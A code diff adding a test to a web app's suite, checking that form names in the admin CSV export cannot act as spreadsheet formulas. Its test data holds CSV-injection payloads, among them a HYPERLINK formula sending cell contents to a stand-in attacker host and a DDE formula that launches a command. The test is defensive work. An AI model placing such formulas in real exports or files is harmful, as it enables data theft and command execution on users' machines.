@@ -155,3 +155,12 @@ def test_the_detail_shows_fields_revisions_and_deliveries(api, owner):
     assert "Ada L." in page and "Revision 1" in page and "Revision 2" in page
     assert "CRM hook" in page and f"/admin/jobs/{accepted['jobs'][0]}" in page
     assert "attempts used 0" in page and hook["id"]
+
+
+def test_a_form_name_never_reaches_a_spreadsheet_as_a_formula_in_the_all_forms_export(app, api, owner):
+    names = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
+    for name in names:
+        form = api.create_form(name, FIELDS)
+        api.submit(form["id"], {"email": "a@example.com", "name": "Ada", "age": 1})
+    table = list(csv.reader(io.StringIO(owner.get("/admin/submissions/export.csv").text)))
+    assert sorted(row[1] for row in table[1:]) == sorted("'" + name for name in names)
